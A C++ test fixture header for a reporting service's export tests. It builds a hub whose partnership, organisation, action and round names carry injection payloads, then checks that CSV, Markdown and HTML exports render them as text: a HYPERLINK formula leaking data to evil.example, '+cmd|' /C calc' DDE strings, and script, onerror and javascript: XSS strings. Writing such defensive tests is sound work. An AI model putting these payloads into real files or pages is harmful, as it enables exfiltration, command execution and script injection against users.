// Issue 13, findings 10 to 12, performed against a real hub (identity, framework,
// assessment and reporting on 127.0.0.1 with PostgreSQL, from TestHub) and the reporting
// service's real HTTP endpoint wired as its main wires it:
//  - CSV formula injection: a partnership, an organisation and an action whose texts start
//    formulas are exported as text;
//  - Markdown injection: a round titled, and a partnership named, with HTML and
//    javascript: links give an annual report section (gRPC, Markdown, text and HTML
//    exports) that carries them as text only;
//  - the regional-comparison opt-out: two partnerships that opted out, named so that name
//    order would tell their anonymous rows apart ("aardvark" and "zebra"), as a region's
//    dashboard and viewer see them, and as their members and hub administrators do.
//
// The world and its fixture; the cases are in reporting_exports_injection_test.cc (findings
// 10 and 11) and reporting_exports_optout_test.cc (finding 12), one world for both.
#pragma once

#include <httplib.h>

#include <gmock/gmock.h>
#include <google/protobuf/util/json_util.h>
#include <grpcpp/client_context.h>
#include <grpcpp/create_channel.h>
#include <gtest/gtest.h>

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "absl/time/time.h"
#include "services/common/auth.h"
#include "services/common/db.h"
#include "services/common/status.h"
#include "services/reporting/http_endpoint.h"
#include "services/reporting/read_model.h"
#include "services/reporting/render.h"
#include "services/reporting/render_escape.h"
#include "services/reporting/reporting_service.h"
#include "tests/support/calls.h"
#include "tests/support/export_text.h"
#include "tests/support/status_matchers.h"
#include "tests/support/test_hub.h"

namespace sixsteps::testing::exports_test {

namespace asv1 = ::sixsteps::assessment::v1;
namespace acv1 = ::sixsteps::action::v1;
namespace fv1 = ::sixsteps::framework::v1;
namespace idv1 = ::sixsteps::identity::v1;
namespace rv1 = ::sixsteps::reporting::v1;
using ::testing::HasSubstr;
using ::testing::Not;
using ::testing::SizeIs;
using Code = absl::StatusCode;
using Role = auth::Role;
using AStub = asv1::AssessmentService::Stub;
using ActStub = acv1::ActionService::Stub;
using RStub = rv1::ReportingService::Stub;
using IdStub = idv1::IdentityService::Stub;

inline constexpr char kRegion[] = "north";
// Opted out; "aardvark" sorts first by name, but its figures (all Red) sort last.
inline constexpr char kAardvark[] = "aardvark";
inline constexpr char kZebra[] = "zebra";   // opted out; all Green
inline constexpr char kNamed[] = "middle";  // did not opt out; its texts carry the attacks
inline constexpr char kAsOf[] = "2026-06-30";

// The attacks. The partnership's name starts a formula and carries HTML and a link.
inline const std::string kNamedPartnership =
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"<img src=x onerror=alert(1)> "
    "[m](javascript:alert(2))\")";
inline const std::string kOrganisationName = "@SUM(1+1)*cmd|' /C calc'!A0";
inline const std::string kActionDescription = "+cmd|' /C calc'!A0";
inline const std::string kRoundTitle =
    "<img src=x onerror=alert(3)> [click](javascript:alert(4)) <script>alert(5)</script>";

inline std::string P(const std::string& id) { return absl::StrCat("partnerships/", id); }
inline std::string QuestionId(int i) { return absl::StrCat("s", i / 4 + 1, ".q", i % 4 + 1); }

// With SIXSTEPS_EXPORTS_ARTIFACTS set to a folder, keeps a rendered export there, to
// look at (or screenshot with chromium); otherwise does nothing.
inline void KeepArtifact(const std::string& name, const std::string& content) {
  const char* dir = std::getenv("SIXSTEPS_EXPORTS_ARTIFACTS");
  if (dir == nullptr || *dir == '\0') return;
  std::ofstream(std::filesystem::path(dir) / name, std::ios::binary) << content;
}

struct World {
  std::unique_ptr<TestHub> hub;
  std::unique_ptr<AStub> assessments;
  std::unique_ptr<ActStub> actions;
  std::unique_ptr<RStub> reporting;
  std::string admin, hub_admin, dashboard, region_viewer, scrutineer;
  std::map<std::string, std::string> member;      // a viewer of each partnership
  std::map<std::string, std::string> respondent;  // the council's respondent of each
  std::map<std::string, asv1::Assessment> round;
  int64_t head = 0;
  // The HTTP endpoint over the hub's read model, as the reporting main wires it.
  std::unique_ptr<db::ConnectionPool> pool;
  std::unique_ptr<reporting::ReadModel> model;
  std::unique_ptr<reporting::Reports> reports;
  std::unique_ptr<auth::TokenVerifier> verifier;
  std::unique_ptr<reporting::HttpEndpoint> http;
};

class ReportingExportsTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    world_ = new World();
    setup_ = Build(*world_);
  }
  static void TearDownTestSuite() {
    if (world_->http) world_->http->Stop();
    delete world_;
    world_ = nullptr;
  }
  void SetUp() override { ASSERT_THAT(setup_, IsOk()); }

  // A finalised independent scrutiny of `p` with these 24 consolidated ratings, one action
  // per step described as `description`.
  static absl::StatusOr<asv1::Assessment> Record(World& w, const std::string& p,
                                                 const std::string& title,
                                                 const std::string& ratings,
                                                 const std::string& owner,
                                                 const std::string& description) {
    asv1::Assessment round;
    {
      asv1::CreateAssessmentRequest request =
          RoundRequest(P(p), asv1::ASSESSMENT_KIND_INDEPENDENT_SCRUTINY, title);
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::CreateAssessment, w.admin, request, &round));
    }
    {
      asv1::AddRespondentRequest add;
      add.set_parent(round.name());
      add.mutable_respondent()->set_organisation(absl::StrCat(P(p), "/organisations/", owner));
      asv1::Respondent respondent;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::AddRespondent, w.admin, add, &respondent));
      // The organisation answers every question as the consolidation will rate it.
      asv1::BatchUpsertResponsesRequest batch;
      batch.set_parent(round.name());
      for (int i = 0; i < 24; ++i) {
        asv1::Response* response = batch.add_requests()->mutable_response();
        response->set_name(absl::StrCat(respondent.name(), "/responses/", QuestionId(i)));
        response->set_rating(Rate(ratings[i]));
        if (ratings[i] != 'R') response->add_evidence()->set_description("Audit");
        if (ratings[i] == 'A') response->set_remaining_work("Embed it");
      }
      asv1::BatchUpsertResponsesResponse written;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::BatchUpsertResponses, w.respondent.at(p), batch, &written));
      asv1::GetAssessmentRequest get;
      get.set_name(round.name());
      SIXSTEPS_RETURN_IF_ERROR(Call(*w.assessments, &AStub::GetAssessment, w.admin, get, &round));
    }
    {
      asv1::SubmitAssessmentForReviewRequest request;
      request.set_name(round.name());
      request.set_etag(round.etag());
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::SubmitAssessmentForReview, w.admin, request, &round));
    }
    for (int i = 0; i < 24; ++i) {
      asv1::ConsolidateQuestionRequest request;
      request.set_parent(round.name());
      asv1::Consolidation* c = request.mutable_consolidation();
      c->set_question_id(QuestionId(i));
      c->set_rating(Rate(ratings[i]));
      c->set_rationale("Seen the evidence");
      if (ratings[i] != 'R') c->add_evidence()->set_description("Case audit");
      if (ratings[i] == 'A') c->set_remaining_work("Finish the audit");
      asv1::Consolidation written;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::ConsolidateQuestion, w.scrutineer, request, &written));
    }
    for (int step = 1; step <= 6; ++step) {
      acv1::CreateActionRequest request;
      acv1::Action* action = request.mutable_action();
      action->set_assessment(round.name());
      action->set_step_id(absl::StrCat("s", step));
      for (int q = 1; q <= 4; ++q) action->add_question_ids(absl::StrCat("s", step, ".q", q));
      action->set_kind(acv1::Action::KIND_IMPROVEMENT);
      action->set_description(description);
      action->set_intended_outcome("Children are safer");
      action->set_owner_organisation(absl::StrCat(P(p), "/organisations/", owner));
      action->set_due_date("2026-01-31");  // overdue as of kAsOf
      acv1::Action created;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.actions, &ActStub::CreateAction, w.admin, request, &created));
    }
    {
      asv1::GetAssessmentRequest get;
      get.set_name(round.name());
      SIXSTEPS_RETURN_IF_ERROR(Call(*w.assessments, &AStub::GetAssessment, w.admin, get, &round));
      asv1::FinaliseAssessmentRequest request;
      request.set_name(round.name());
      request.set_etag(round.etag());
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*w.assessments, &AStub::FinaliseAssessment, w.scrutineer, request, &round));
    }
    return round;
  }

  static absl::Status Build(World& w) {
    SIXSTEPS_ASSIGN_OR_RETURN(w.hub, TestHub::Start("exports"));
    TestHub& hub = *w.hub;
    w.assessments = hub.AssessmentStub();
    w.actions = hub.ActionStub();
    w.admin = hub.admin_token();
    SIXSTEPS_RETURN_IF_ERROR(hub.CreateRegion(kRegion));
    auto identity = hub.IdentityStub();
    for (const char* p : {kAardvark, kZebra, kNamed}) {
      SIXSTEPS_RETURN_IF_ERROR(hub.CreatePartnership(p, kRegion));
      idv1::CreateOrganisationRequest org;
      org.set_parent(P(p));
      org.set_organisation_id("council");
      org.mutable_organisation()->set_display_name(
          std::string(p) == kNamed ? kOrganisationName : std::string("Council of ") + p);
      org.mutable_organisation()->set_kind(idv1::ORGANISATION_KIND_LOCAL_AUTHORITY);
      org.mutable_organisation()->set_core_partner(true);
      idv1::Organisation created;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*identity, &IdStub::CreateOrganisation, w.admin, org, &created));
      idv1::GetPartnershipRequest get;
      get.set_name(P(p));
      idv1::Partnership stored;
      SIXSTEPS_RETURN_IF_ERROR(Call(*identity, &IdStub::GetPartnership, w.admin, get, &stored));
      idv1::UpdatePartnershipRequest update;
      update.mutable_partnership()->set_etag(stored.etag());
      if (std::string(p) == kNamed) {
        update.mutable_partnership()->set_display_name(kNamedPartnership);
        update.mutable_update_mask()->add_paths("display_name");
      } else {
        update.mutable_partnership()->set_regional_comparison_opt_out(true);
        update.mutable_update_mask()->add_paths("regional_comparison_opt_out");
      }
      update.mutable_partnership()->set_name(P(p));
      idv1::Partnership updated;
      SIXSTEPS_RETURN_IF_ERROR(
          Call(*identity, &IdStub::UpdatePartnership, w.admin, update, &updated));
      SIXSTEPS_ASSIGN_OR_RETURN(w.respondent[p],
                                hub.UserWithRoles(absl::StrCat("council@", p, ".test"),
                                                  {{Role::ROLE_PARTNER_RESPONDENT, P(p),
                                                    absl::StrCat(P(p),
                                                                 "/organisations/"
                                                                 "council")}}));
      SIXSTEPS_ASSIGN_OR_RETURN(w.member[p], hub.UserWithRoles(absl::StrCat("viewer@", p, ".test"),
                                                               {{Role::ROLE_VIEWER, P(p), ""}}));
    }
    const std::string region = absl::StrCat("regions/", kRegion);
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.scrutineer, hub.UserWithRoles("scrutineer@north.test",
                                        {{Role::ROLE_INDEPENDENT_SCRUTINEER, P(kAardvark), ""},
                                         {Role::ROLE_INDEPENDENT_SCRUTINEER, P(kZebra), ""},
                                         {Role::ROLE_INDEPENDENT_SCRUTINEER, P(kNamed), ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.hub_admin,
        hub.UserWithRoles("hub@north.test", {{Role::ROLE_HUB_ADMINISTRATOR, region, ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(w.dashboard, hub.UserWithRoles("dashboard@north.test",
                                                             {{Role::ROLE_DASHBOARD, region, ""}}));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.region_viewer, hub.UserWithRoles("viewer@north.test", {{Role::ROLE_VIEWER, region, ""}}));

    // Aardvark all Red, Zebra all Green: by their figures Zebra's row comes first.
    SIXSTEPS_ASSIGN_OR_RETURN(w.round[kAardvark],
                              Record(w, kAardvark, "Aardvark scrutiny", std::string(24, 'R'),
                                     "council", "Aardvark's plan"));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.round[kZebra],
        Record(w, kZebra, "Zebra scrutiny", std::string(24, 'G'), "council", "Zebra's plan"));
    SIXSTEPS_ASSIGN_OR_RETURN(
        w.round[kNamed],
        Record(w, kNamed, kRoundTitle, "GARAGARAGARAGARAGARAGARA", "council", kActionDescription));

    SIXSTEPS_RETURN_IF_ERROR(hub.StartReporting());
    w.reporting = hub.ReportingStub();
    SIXSTEPS_ASSIGN_OR_RETURN(w.head, hub.FeedHead());

    // The HTTP endpoint on the same read model, with the same Reports and a verifier of
    // identity's keys.
    w.pool = std::make_unique<db::ConnectionPool>(hub.reporting_database_url(), 2);
    w.model = std::make_unique<reporting::ReadModel>(w.pool.get());
    w.reports = std::make_unique<reporting::Reports>(w.model.get(), absl::UTCTimeZone());
    w.verifier = std::make_unique<auth::TokenVerifier>(std::make_shared<auth::IdentityPublicKeys>(
        grpc::CreateChannel(hub.identity_target(), grpc::InsecureChannelCredentials())));
    reporting::Reports* reports = w.reports.get();
    w.http = std::make_unique<reporting::HttpEndpoint>(
        w.verifier.get(),
        [reports](const auth::Caller& caller,
                  const rv1::ExportReportRequest& request) -> absl::StatusOr<reporting::Rendered> {
          auto exported = reports->Render(caller, request, absl::Now() + absl::Seconds(30));
          if (!exported.ok()) return exported.status();
          return reporting::Rendered{exported->content, exported->content_type, exported->filename};
        });
    return w.http->Start("127.0.0.1", 0);
  }

  // ---- Reports over gRPC, at the feed head ----

  static absl::Status Overview(const std::string& token, rv1::RegionalOverview* overview) {
    rv1::GetRegionalOverviewRequest request;
    request.set_region(absl::StrCat("regions/", kRegion));
    request.set_min_sequence(world_->head);
    request.set_as_of_date(kAsOf);
    return Call(*world_->reporting, &RStub::GetRegionalOverview, token, request, overview);
  }
  static absl::Status Report(const std::string& token, const std::string& assessment) {
    rv1::GetAssessmentReportRequest request;
    request.set_assessment(assessment);
    request.set_min_sequence(world_->head);
    rv1::AssessmentReport report;
    return Call(*world_->reporting, &RStub::GetAssessmentReport, token, request, &report);
  }
  static absl::Status Trend(const std::string& token, const std::string& partnership) {
    rv1::GetPartnershipTrendRequest request;
    request.set_partnership(partnership);
    request.set_min_sequence(world_->head);
    rv1::PartnershipTrend trend;
    return Call(*world_->reporting, &RStub::GetPartnershipTrend, token, request, &trend);
  }
  static absl::Status Tracker(const std::string& token, const std::string& scope,
                              rv1::ActionTracker* tracker) {
    rv1::GetActionTrackerRequest request;
    request.set_scope(scope);
    request.set_min_sequence(world_->head);
    request.set_as_of_date(kAsOf);
    return Call(*world_->reporting, &RStub::GetActionTracker, token, request, tracker);
  }
  static absl::Status Annual(const std::string& token, const std::string& assessment,
                             rv1::AnnualReportSection* section) {
    rv1::GetAnnualReportSectionRequest request;
    request.set_assessment(assessment);
    request.set_min_sequence(world_->head);
    return Call(*world_->reporting, &RStub::GetAnnualReportSection, token, request, section);
  }
  static absl::StatusOr<std::string> Export(const std::string& token,
                                            rv1::ExportReportRequest request, rv1::Format format) {
    request.set_format(format);
    rv1::ExportReportResponse exported;
    SIXSTEPS_RETURN_IF_ERROR(
        Call(*world_->reporting, &RStub::ExportReport, token, request, &exported));
    return exported.content();
  }
  static rv1::ExportReportRequest AssessmentExport(const std::string& assessment) {
    rv1::ExportReportRequest request;
    request.mutable_assessment()->set_assessment(assessment);
    request.mutable_assessment()->set_min_sequence(world_->head);
    request.mutable_assessment()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest RegionExport() {
    rv1::ExportReportRequest request;
    request.mutable_region()->set_region(absl::StrCat("regions/", kRegion));
    request.mutable_region()->set_min_sequence(world_->head);
    request.mutable_region()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest TrackerExport(const std::string& scope) {
    rv1::ExportReportRequest request;
    request.mutable_actions()->set_scope(scope);
    request.mutable_actions()->set_min_sequence(world_->head);
    request.mutable_actions()->set_as_of_date(kAsOf);
    return request;
  }
  static rv1::ExportReportRequest AnnualExport(const std::string& assessment) {
    rv1::ExportReportRequest request;
    request.mutable_annual()->set_assessment(assessment);
    request.mutable_annual()->set_min_sequence(world_->head);
    return request;
  }

  // ---- The same over HTTP ----

  static httplib::Result Get(const std::string& token, const std::string& path) {
    httplib::Client client("127.0.0.1", world_->http->port());
    client.set_read_timeout(std::chrono::seconds(60));
    return client.Get(path, {{"Authorization", "Bearer " + token}});
  }

  static inline World* world_ = nullptr;
  static inline absl::Status setup_;
};

}  // namespace sixsteps::testing::exports_test
